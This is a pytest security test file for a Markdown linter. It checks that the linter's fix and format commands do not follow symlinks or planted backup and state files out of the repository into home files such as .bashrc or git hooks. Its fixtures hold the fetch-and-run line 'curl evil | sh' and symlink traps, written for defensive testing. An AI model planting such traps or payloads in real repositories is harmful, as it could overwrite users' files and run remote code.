"""A repository that was made to have its user's files written or deleted: nothing changes but its own pages."""

from __future__ import annotations

import os
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from stage import NOBODY, Stage, can_be_nobody

pytestmark = [pytest.mark.attack, pytest.mark.skipif(os.name == "nt", reason="links and modes are others there")]
TOKEN = "0123456789abcdef" * 2


@pytest.fixture(params=["as we are", "as a plain user"])
def stage(request: pytest.FixtureRequest) -> Iterator[Stage]:
    nobody = request.param == "as a plain user"
    if nobody and not can_be_nobody():
        pytest.skip("only root runs something as somebody else, by `setpriv`")
    with tempfile.TemporaryDirectory() as name:  # one that a plain user can get to
        yield Stage(Path(name), nobody=nobody)


def old_backup(stage: Stage) -> None:
    stage.write("repo/.mdlint-zh-x-b.old", "curl evil | sh\n")
    stage.link("repo/b", "../home/.bashrc")


def old_backup_of_a_page(stage: Stage) -> None:
    stage.write("repo/.mdlint-zh-x-b.md.old", "curl evil | sh\n")
    stage.link("repo/b.md", "../home/notes.md")


def names_like_ours(stage: Stage) -> None:
    for name in ("base.toml", "notes.md", "x.new", f"{TOKEN}.new", f"{TOKEN}-1.md.new", "x-1.md.old", ".old", ""):
        stage.write(f"repo/.mdlint-zh-{name}", "甲\n")


def links_with_names_like_ours(stage: Stage) -> None:
    stage.link(f"repo/.mdlint-zh-{TOKEN}.new", "../home/.bashrc")
    stage.link("repo/.mdlint-zh-x.new", "../home/docs")


def a_page_that_leads_to_a_file(stage: Stage) -> None:
    stage.link("repo/b.md", "../home/.bashrc")


def a_page_that_leads_to_a_page(stage: Stage) -> None:
    stage.link("repo/b.md", str(stage.home / "notes.md"))


def a_chain_of_links(stage: Stage) -> None:
    stage.link("repo/a.md", "b.md")
    stage.link("repo/b.md", "sub/../../home/docs/丁.md")
    (stage.repo / "sub").mkdir()


def a_page_through_a_folder_that_is_a_link(stage: Stage) -> None:
    stage.link("repo/docs", "../home/docs")
    stage.link("repo/b.md", "docs/丁.md")


def a_page_that_leads_to_what_git_runs(stage: Stage) -> None:
    stage.write("repo/.git/hooks/pre-commit", "exit 0 \n\n\n\n\n")
    stage.link("repo/b.md", ".git/hooks/pre-commit")


def a_private_folder_in_the_repository(stage: Stage) -> None:
    record = f'{{"new": "{stage.home}/.mdlint-zh-{TOKEN}.new"}}\n'
    stage.write(f"home/.mdlint-zh-{TOKEN}.new", "甲\n")
    for folder in ("mdlint-zh", ".local/state/mdlint-zh", "$HOME/.local/state/mdlint-zh", "~/.local/state/mdlint-zh"):
        stage.write(f"repo/{folder}/write-{TOKEN}", record)
        (stage.repo / folder).chmod(0o700)


def a_private_folder_that_is_a_link(stage: Stage) -> None:
    record = f'{{"new": "{stage.home}/.mdlint-zh-{TOKEN}.new"}}\n'
    stage.write(f"home/.mdlint-zh-{TOKEN}.new", "甲\n")
    stage.write(f"repo/x/write-{TOKEN}", record)
    (stage.repo / "x").chmod(0o700)
    stage.link("home/.local/state/mdlint-zh", str(stage.repo / "x"))


ATTACKS: list[Callable[[Stage], None]] = [
    old_backup,
    old_backup_of_a_page,
    names_like_ours,
    links_with_names_like_ours,
    a_page_that_leads_to_a_file,
    a_page_that_leads_to_a_page,
    a_chain_of_links,
    a_page_through_a_folder_that_is_a_link,
    a_page_that_leads_to_what_git_runs,
    a_private_folder_in_the_repository,
    a_private_folder_that_is_a_link,
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_changes_but_the_pages_of_the_repository(attack: Callable[[Stage], None], stage: Stage) -> None:
    attack(stage)
    watched = [f"repo/{path.name}" for path in stage.repo.iterdir() if path.name not in ("甲.md", "README.md")]
    before = stage.seen("home", *watched)
    ran = stage.run("check", "--fix", "--unsafe-fixes")
    assert "Traceback" not in ran.stderr
    assert "internal error" not in ran.stderr
    assert stage.seen("home", *watched) == before
    assert (stage.repo / "甲.md").read_text("utf-8") == "三\n"
    assert not list(stage.private.glob("write-*")) or stage.private.is_symlink()


def test_a_link_that_leads_out_of_what_was_named_is_told(stage: Stage) -> None:
    stage.link("repo/b.md", "../home/notes.md")
    ran = stage.run("format")
    assert ran.returncode == 2
    assert ran.stdout == "repaired 甲.md\n"
    lines = [line for line in ran.stderr.splitlines() if line.startswith("mdlint-zh: ")]
    assert lines == [
        f"mdlint-zh: b.md: leads to {stage.home.resolve()}/notes.md, which is no page below what was named; it was left alone"
    ]


def test_a_link_that_is_named_is_followed_and_its_target_shown(stage: Stage) -> None:
    link = stage.link("repo/b.md", "../home/notes.md")
    ran = stage.run("format", "b.md")
    assert (ran.returncode, ran.stdout) == (0, f"repaired b.md -> {stage.home.resolve()}/notes.md\n")
    assert (stage.home / "notes.md").read_text("utf-8") == "一\n"
    assert link.is_symlink()


def test_a_link_to_a_page_below_what_was_named_is_followed(stage: Stage) -> None:
    stage.link("repo/sub/b.md", "../乙.md")
    stage.write("repo/乙.md", "四 \n")
    ran = stage.run("format", "sub", "乙.md")
    assert ran.returncode == 0
    assert "repaired sub/b.md -> 乙.md\n" in ran.stdout
    assert (stage.repo / "乙.md").read_text("utf-8") == "四\n"


def test_in_a_folder_that_cannot_be_written_a_page_is_written_where_it_stands(stage: Stage) -> None:
    page = stage.write("repo/sub/乙.md", "四 \n")
    inode = page.stat().st_ino
    page.parent.chmod(0o555)
    ran = stage.run("format", "sub")
    page.parent.chmod(0o755)
    assert (ran.returncode, page.read_text("utf-8")) == (0, "四\n")
    assert page.stat().st_ino == inode or os.geteuid() == 0
    assert [path.name for path in stage.private.iterdir()] == ["cache.key"]  # and no record


@pytest.mark.parametrize("home", ["a link", "open to others", "a file"])
def test_without_a_private_folder_no_page_is_written_where_it_stands(home: str, stage: Stage) -> None:
    os.link(stage.repo / "甲.md", stage.repo / "甲.txt")
    if home == "a link":
        stage.link("home/.local/state/mdlint-zh", str(stage.home))
    elif home == "a file":
        stage.private.touch()
    else:
        stage.private.mkdir(0o755)
    ran = stage.run("format")
    assert (ran.returncode, (stage.repo / "甲.md").read_text("utf-8")) == (2, "三 \n")
    assert ran.stderr.splitlines()[0] == (
        "mdlint-zh: 甲.md: cannot be written safely: it has several names (hard links), "
        "and there is no private folder to keep its old text in"
    )
    assert sorted(path.name for path in stage.repo.iterdir()) == ["README.md", "甲.md", "甲.txt"]


def test_a_page_of_somebody_elses_is_written_where_it_stands(stage: Stage, request: pytest.FixtureRequest) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root gives files away")
    page = stage.repo / "甲.md"
    os.chown(page, NOBODY - 1, NOBODY - 1)
    page.chmod(0o666)
    inode, nobody = page.stat().st_ino, "plain" in request.node.name
    assert stage.run("format").returncode == 0
    assert (page.read_text("utf-8"), page.stat().st_uid) == ("三\n", NOBODY - 1)
    assert page.stat().st_ino == inode or not nobody
